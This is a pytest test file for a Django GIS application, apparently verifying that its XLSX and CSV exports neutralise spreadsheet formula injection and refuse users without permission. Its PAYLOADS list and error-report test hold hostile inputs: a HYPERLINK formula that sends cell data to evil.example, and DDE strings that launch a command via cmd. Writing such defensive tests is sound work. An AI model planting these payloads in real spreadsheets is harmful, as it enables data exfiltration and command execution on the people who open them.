"""Exports handed to an administrator's spreadsheet, and who may ask for them.

Attacks: formula injection through incident descriptions, addresses and names
(=HYPERLINK(...), +cmd, -2+3, @SUM, a leading tab or CR) in XLSX and CSV exports; control
characters that XLSX cannot hold; export_layer --user for a user who may not see the layer
(a planner asking for households: EmptyResultSet) or sees none of its rows.
"""

from __future__ import annotations

import csv

import openpyxl
import pytest
from django.contrib.gis.geos import Point

from importers.export import export_layer
from layers.grids.models import GridAssignment
from layers.incidents.models import Incident
from layers.people.models import Household
from tests.importers.conftest import run

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile(world):
    """Incidents whose description, address and reporter name are formulas; a household too."""
    for n, payload in enumerate(PAYLOADS):
        Incident.objects.filter(pk=world.iw.pk if n == 0 else world.ie.pk).update(description=payload,
                                                                                  external_id=f"W{n}")
        Incident.objects.create(category=world.iw.category, description=payload, address=payload, reporter_name=payload,
                                reported_at=world.iw.reported_at, geom=world.iw.geom, external_id=f"X{n}")
    Household.objects.filter(pk=world.hw.pk).update(address="=1+2", head_name="@王", external_id="-7",
                                                    geom=Point(-0.5, -1.25, srid=4326),  # negative numbers
                                                    district_code="000000")  # (in no district there)
    # Whole seconds, as exported, so that a round trip can be compared value for value.
    Incident.objects.update(reported_at=world.iw.reported_at.replace(microsecond=0))
    return world


def test_xlsx_export_holds_no_formula_cell_and_prefixes_every_formula_like_text(hostile, tmp_path):
    for layer in ("incidents", "households"):
        path = tmp_path / f"{layer}.xlsx"
        export_layer(layer, path, unmasked=False)
        book = openpyxl.load_workbook(path)
        texts = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (layer, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        texts.append(cell.value)
        dangerous = [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert dangerous == []
        if layer == "incidents":
            assert "'" + PAYLOADS[0] in texts and "'-2+3" in texts
        else:  # numeric columns stay numbers, negative ones too
            sheet = book.worksheets[0]
            headers = [c.value for c in sheet[1]]
            lons = [row[headers.index("经度")] for row in sheet.iter_rows(min_row=2, values_only=True)]
            assert -0.5 in lons and all(isinstance(v, float) for v in lons)


def test_csv_export_prefixes_formula_like_text_but_keeps_negative_numbers_numbers(hostile, tmp_path):
    path = tmp_path / "incidents.csv"
    export_layer("incidents", path)
    rows = list(csv.DictReader(path.open(encoding="utf-8-sig", newline="")))
    for row in rows:
        for header, value in row.items():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), (header, value)
    assert {r["事件描述"] for r in rows} >= {"'" + p for p in PAYLOADS}
    households = tmp_path / "households.csv"
    export_layer("households", households)
    assert "-0.5" in {r["经度"] for r in csv.DictReader(households.open(encoding="utf-8-sig"))}


def test_neutralised_export_imports_back_unchanged(hostile, tmp_path):
    # CSV: an XLSX keeps no bare CR (XML turns it into a line feed), a CSV keeps every character.
    path = tmp_path / "incidents.csv"
    export_layer("incidents", path)
    assert "'=HYPERLINK" in path.read_text(encoding="utf-8-sig")
    result = run("import_incidents", path, "--crs", "wgs84")
    assert result.ok, result.text
    # Every value read back equals the stored one: the quote came off again.
    assert f"更新 updated 0, 未变 unchanged {Incident.objects.count()}" in result.out, result.out


def test_control_characters_do_not_break_an_xlsx_export(world, tmp_path):
    Incident.objects.filter(pk=world.iw.pk).update(description="坏\x01字符\x1f")
    export_layer("incidents", tmp_path / "i.xlsx")
    assert (tmp_path / "i.xlsx").exists()


def test_export_as_a_planner_who_may_not_see_households_is_a_clear_refusal(world, tmp_path):
    result = run("export_layer", "households", tmp_path / "h.xlsx", "--user", world.planner.username)
    assert not result.ok
    assert "may not export households" in result.error and "people.view_household" in result.error
    assert not (tmp_path / "h.xlsx").exists()
    result = run("export_layer", "incidents", tmp_path / "i.csv", "--user", world.patrol.username)
    assert result.ok, result.text  # a user who sees the layer still exports it


def test_export_as_a_grid_worker_without_grids_is_a_clear_refusal(world, tmp_path):
    GridAssignment.objects.filter(user=world.worker_w).delete()
    result = run("export_layer", "incidents", tmp_path / "i.csv", "--user", world.worker_w.username)
    assert not result.ok and "no incidents visible" in result.error
    assert not (tmp_path / "i.csv").exists()


def test_error_report_quotes_a_formula_from_the_users_file_harmlessly(world, tmp_path):
    ledger = tmp_path / "h.csv"
    ledger.write_text('编号,经度,纬度,地址\nH1,"=HYPERLINK(""http://evil.example"")",30.655,测试路1号\n', encoding="utf-8")
    report = tmp_path / "errors.csv"
    result = run("import_households", ledger, "--crs", "wgs84", "--error-report", report)
    assert not result.ok
    rows = list(csv.reader(report.open(encoding="utf-8-sig", newline="")))
    values = [cell for row in rows[1:] for cell in row]
    assert "'=HYPERLINK(\"http://evil.example\")" in values
    assert not [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
